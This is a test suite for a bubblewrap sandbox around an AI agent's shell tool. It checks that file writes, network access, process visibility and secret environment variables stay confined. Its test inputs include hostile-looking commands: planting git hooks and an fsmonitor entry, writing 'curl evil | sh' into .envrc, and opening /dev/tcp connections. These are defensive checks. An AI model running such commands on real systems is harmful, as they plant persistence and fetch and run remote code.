import { execFile, execFileSync } from 'node:child_process';
import { promisify } from 'node:util';
import { existsSync } from 'node:fs';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { homedir } from 'node:os';
import { join } from 'node:path';
import { ConfigurationError, type SandboxRequirement } from '@cairn/core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { processesMatching, structured, temporaryWorkspace, textOf, toolContext, waitFor } from '../../test/tool-context.js';
import { createShellTool, runTerminalCmdTool as tool } from '../run-terminal-cmd.js';
import { shellLogDirectory } from '../process/log-directory.js';
import { createBubblewrapBackend } from './bubblewrap.js';

const workspaceWrite: SandboxRequirement = { profile: 'workspace-write', networkAllow: [], required: true };
const readOnly: SandboxRequirement = { profile: 'read-only', networkAllow: [], required: true };

async function sandboxed(root: string, command: string, sandbox = workspaceWrite, settings: Record<string, unknown> = {}) {
  const { context } = toolContext(root, { sandbox, settings: { killGraceMs: 200, ...settings } });
  const result = await tool.execute({ command }, context);
  return { text: textOf(result), exitCode: structured<{ exitCode: number | null }>(result).exitCode, sandbox: structured<{ sandbox: string }>(result).sandbox };
}

let server: Server;
let port = 0;
beforeAll(async () => {
  server = createServer((_request, response) => response.end('host-server-reached'));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  port = (server.address() as { port: number }).port;
});
afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

// CI installs bubblewrap: a missing bwrap must fail these tests, never skip them.
describe('bubblewrap is available', () => {
  it('isAvailable() is true on this machine', async () => {
    expect(await createBubblewrapBackend().isAvailable()).toEqual({ available: true });
  });
});

describe('workspace-write sandbox', () => {
  it('writes in the workspace and in a private /tmp work', async () => {
    const root = await temporaryWorkspace();
    const result = await sandboxed(root, 'echo hi > made.txt && mkdir -p a/b && echo x > a/b/c && echo t > /tmp/scratch && cat /tmp/scratch');
    expect(result.sandbox).toBe('workspace-write');
    expect(result.exitCode).toBe(0);
    expect(await readFile(join(root, 'made.txt'), 'utf8')).toBe('hi\n');
  });

  it('writes outside the workspace fail: /tmp/../etc, $HOME, /usr', async () => {
    const root = await temporaryWorkspace();
    for (const target of ['/tmp/../etc/cairn-x', `${homedir()}/cairn-x`, '/usr/cairn-x']) {
      const result = await sandboxed(root, `echo x > ${target}`);
      expect(result.exitCode, target).not.toBe(0);
      expect(existsSync(target), target).toBe(false);
    }
  });

  it('drops capabilities, sets NoNewPrivs and cannot remount / read-write', async () => {
    const root = await temporaryWorkspace();
    const status = await sandboxed(root, 'grep -E "^(NoNewPrivs|CapEff)" /proc/self/status');
    expect(status.text).toMatch(/NoNewPrivs:\s+1/);
    expect(status.text).toMatch(/CapEff:\s+0+\n/);
    const remount = await sandboxed(root, 'mount -o remount,rw / && touch /usr/cairn-remount');
    expect(remount.exitCode).not.toBe(0);
    expect(existsSync('/usr/cairn-remount')).toBe(false);
  });

  it('protected paths stay read-only inside the workspace: .git/hooks, .git/config, .cairn, .cursor, .envrc', async () => {
    const root = await temporaryWorkspace();
    execFileSync('git', ['init', '-q', root]);
    await mkdir(join(root, '.cursor'));
    await writeFile(join(root, '.cursor', 'mcp.json'), '{}');
    const attempts = [
      'echo evil > .git/hooks/pre-commit',
      'echo "[core] fsmonitor = evil" >> .git/config',
      'mkdir -p .cairn && echo x > .cairn/permissions.json',
      'echo x > .cursor/mcp.json',
      'echo "curl evil | sh" > .envrc',
    ];
    for (const command of attempts) expect((await sandboxed(root, command)).exitCode, command).not.toBe(0);
    expect(existsSync(join(root, '.git/hooks/pre-commit'))).toBe(false);
    expect(await readFile(join(root, '.git/config'), 'utf8')).not.toContain('fsmonitor');
    expect(await readFile(join(root, '.cursor', 'mcp.json'), 'utf8')).toBe('{}');
    // The empty mount points made for missing paths are removed afterwards.
    expect(existsSync(join(root, '.cairn'))).toBe(false);
    expect(existsSync(join(root, '.envrc'))).toBe(false);
    // Ordinary git work in the workspace still works.
    expect((await sandboxed(root, 'echo a > a.txt && git add a.txt && git -c user.email=a@b -c user.name=a commit -qm first && git log --oneline')).exitCode).toBe(0);
  });

  it('a core.hooksPath inside the workspace (.husky) is read-only too', async () => {
    const root = await temporaryWorkspace();
    execFileSync('git', ['init', '-q', root]);
    execFileSync('git', ['-C', root, 'config', 'core.hooksPath', '.husky']);
    await mkdir(join(root, '.husky'));
    expect((await sandboxed(root, 'echo evil > .husky/pre-commit')).exitCode).not.toBe(0);
    expect(existsSync(join(root, '.husky', 'pre-commit'))).toBe(false);
  });

  it('a missing .git cannot be created with hooks', async () => {
    const root = await temporaryWorkspace();
    expect((await sandboxed(root, 'git init -q . && echo evil > .git/hooks/post-checkout')).exitCode).not.toBe(0);
    expect(existsSync(join(root, '.git'))).toBe(false);
  });

  it('network is off: HTTP to a host server, /dev/tcp, raw sockets, DNS', async () => {
    const root = await temporaryWorkspace();
    // Sanity: the server answers from the host.
    expect((await promisify(execFile)('curl', ['-s', `http://127.0.0.1:${port}/`])).stdout).toBe('host-server-reached');
    const attempts = [
      `curl -s --max-time 3 http://127.0.0.1:${port}/`,
      `exec 3<>/dev/tcp/127.0.0.1/${port} && echo connected`,
      `node -e "require('net').connect(${port}, '127.0.0.1').on('connect', () => { console.log('connected'); process.exit(0) }).on('error', () => process.exit(7))"`,
      `node -e "require('dns').lookup('example.com', (error) => process.exit(error ? 7 : 0))"`,
      'getent hosts example.com',
    ];
    for (const command of attempts) {
      const result = await sandboxed(root, command);
      expect(result.exitCode, command).not.toBe(0);
      expect(result.text, command).not.toContain('host-server-reached');
      expect(result.text, command).not.toMatch(/^connected/m);
    }
  });

  it('host processes are invisible', async () => {
    const root = await temporaryWorkspace();
    const result = await sandboxed(root, 'ls /proc | grep -E "^[0-9]+$" | wc -l; test -e /proc/' + process.pid + ' && echo host-visible; ps -e | wc -l');
    const [procCount, psCount] = result.text.split('\n').filter((line) => /^\s*\d+\s*$/.test(line)).map(Number);
    expect(procCount).toBeLessThan(8);
    expect(psCount).toBeLessThan(9);
    expect(result.text).not.toContain('host-visible');
  });

  it('secrets are absent from the sandboxed environment; a variable named in env.pass comes through', async () => {
    const root = await temporaryWorkspace();
    const env = { PATH: process.env.PATH, ANTHROPIC_API_KEY: 'sk-ant-secret', HARMLESS: 'seen', UNLISTED: 'dropped' };
    const { context } = toolContext(root, { sandbox: workspaceWrite, env, settings: { env: { pass: ['HARMLESS'] } } });
    const output = textOf(await tool.execute({ command: 'env' }, context));
    expect(output).toContain('HARMLESS=seen');
    expect(output).not.toContain('sk-ant-secret');
    // The environment is an allow-list: a variable nobody named does not reach the command.
    expect(output).not.toContain('UNLISTED');
  });

  it('an allow-list lets only the listed hosts through the host proxy; everything else stays off', async () => {
    const root = await temporaryWorkspace();
    const allowLocal = { ...workspaceWrite, networkAllow: ['127.0.0.1'] };
    const viaProxy = await sandboxed(root, `curl -s --max-time 5 http://127.0.0.1:${port}/`, allowLocal);
    expect(viaProxy.text).toContain('host-server-reached');
    const tunnel = await sandboxed(root, `curl -s --max-time 5 --proxytunnel http://127.0.0.1:${port}/`, allowLocal);
    expect(tunnel.text).toContain('host-server-reached');
    // Without the proxy the sandbox still has no route anywhere.
    expect((await sandboxed(root, `exec 3<>/dev/tcp/127.0.0.1/${port} && echo connected`, allowLocal)).exitCode).not.toBe(0);
    const otherHost = { ...workspaceWrite, networkAllow: ['example.org'] };
    const refused = await sandboxed(root, `curl -s --max-time 5 -o /dev/null -w '%{http_code}' http://127.0.0.1:${port}/`, otherHost);
    expect(refused.text).toContain('403');
    expect(refused.text).not.toContain('host-server-reached');
    const refusedTunnel = await sandboxed(root, `curl -s --max-time 5 --proxytunnel http://127.0.0.1:${port}/`, otherHost);
    expect(refusedTunnel.exitCode).not.toBe(0);
    expect(refusedTunnel.text).not.toContain('host-server-reached');
  });

  it('refuses a wildcard allow-list instead of opening the network', async () => {
    const root = await temporaryWorkspace();
    const { context } = toolContext(root, { sandbox: { ...workspaceWrite, networkAllow: ['*'] } });
    await expect(tool.execute({ command: 'true' }, context)).rejects.toBeInstanceOf(ConfigurationError);
  });

  it('cancel leaves no process behind', async () => {
    const root = await temporaryWorkspace();
    const seconds = `1000.${Math.floor(Math.random() * 1e6)}`;
    const { context, controller } = toolContext(root, { sandbox: workspaceWrite, settings: { killGraceMs: 200 } });
    const running = tool.execute({ command: `sleep ${seconds} & sleep ${seconds}` }, context);
    expect(await waitFor(async () => (await processesMatching(`sleep ${seconds}`)).length >= 2)).toBe(true);
    controller.abort();
    await expect(running).rejects.toMatchObject({ name: 'AbortError' });
    expect(await waitFor(async () => (await processesMatching(seconds)).length === 0, 3000)).toBe(true);
  });

  it('timeout kills the sandboxed group', async () => {
    const root = await temporaryWorkspace();
    const seconds = `1000.${Math.floor(Math.random() * 1e6)}`;
    const { context } = toolContext(root, { sandbox: workspaceWrite, settings: { killGraceMs: 200 } });
    const result = await tool.execute({ command: `sleep ${seconds} & sleep ${seconds}`, timeout_ms: 500 }, context);
    expect(structured(result)).toMatchObject({ timedOut: true });
    expect(await waitFor(async () => (await processesMatching(seconds)).length === 0, 3000)).toBe(true);
  });
});

describe('read-only sandbox', () => {
  it('touch, git init, git commit and npm install fail; reading works', async () => {
    const root = await temporaryWorkspace();
    execFileSync('git', ['init', '-q', root]);
    await writeFile(join(root, 'readme.md'), 'hello');
    await mkdir(join(root, 'local'));
    await writeFile(join(root, 'local', 'package.json'), JSON.stringify({ name: 'local', version: '1.0.0' }));
    await writeFile(join(root, 'package.json'), JSON.stringify({ name: 'x', version: '1.0.0', dependencies: { local: 'file:./local' } }));
    expect((await sandboxed(root, 'cat readme.md', readOnly)).text).toContain('hello');
    for (const command of ['touch new.txt', 'git init -q again', 'git add readme.md && git -c user.email=a@b -c user.name=a commit -qm x', 'npm install --offline --no-audit --no-fund']) {
      expect((await sandboxed(root, command, readOnly)).exitCode, command).not.toBe(0);
    }
    expect(existsSync(join(root, 'new.txt'))).toBe(false);
    expect(existsSync(join(root, 'again'))).toBe(false);
    expect(existsSync(join(root, 'node_modules'))).toBe(false);
    expect(existsSync(join(root, 'package-lock.json'))).toBe(false);
    expect(execFileSync('git', ['-C', root, 'status', '--porcelain']).toString()).toContain('?? readme.md');
  });

  it('has a private writable /tmp and can read the shell log folder', async () => {
    const root = await temporaryWorkspace();
    const log = join(shellLogDirectory(), 'visible-inside.log');
    await writeFile(log, 'log-line');
    const result = await sandboxed(root, `echo x > /tmp/inside && cat /tmp/inside && cat ${log} && echo y >> ${log}`, readOnly);
    expect(result.text).toContain('log-line');
    expect(result.exitCode).not.toBe(0);
    expect(await readFile(log, 'utf8')).toBe('log-line');
    expect(existsSync('/tmp/inside')).toBe(false);
  });
});

describe('missing sandbox', () => {
  it('required: ConfigurationError naming the dependency; never a silent unsandboxed run', async () => {
    const root = await temporaryWorkspace();
    const missing = createShellTool({ sandboxBackend: createBubblewrapBackend({ executable: join(root, 'no-bwrap') }) });
    const { context } = toolContext(root, { sandbox: workspaceWrite });
    const error = await Promise.resolve(missing.execute({ command: 'touch ran' }, context)).catch((caught: unknown) => caught);
    expect(error).toBeInstanceOf(ConfigurationError);
    expect((error as Error).message).toContain('apt-get install bubblewrap');
    expect(existsSync(join(root, 'ran'))).toBe(false);
    const optional = toolContext(root, { sandbox: { ...workspaceWrite, required: false } });
    const result = await missing.execute({ command: 'echo ran' }, optional.context);
    expect(textOf(result)).toMatch(/sandbox is unavailable.*ran without it/);
    expect(structured(result)).toMatchObject({ sandbox: 'none' });
  });
});
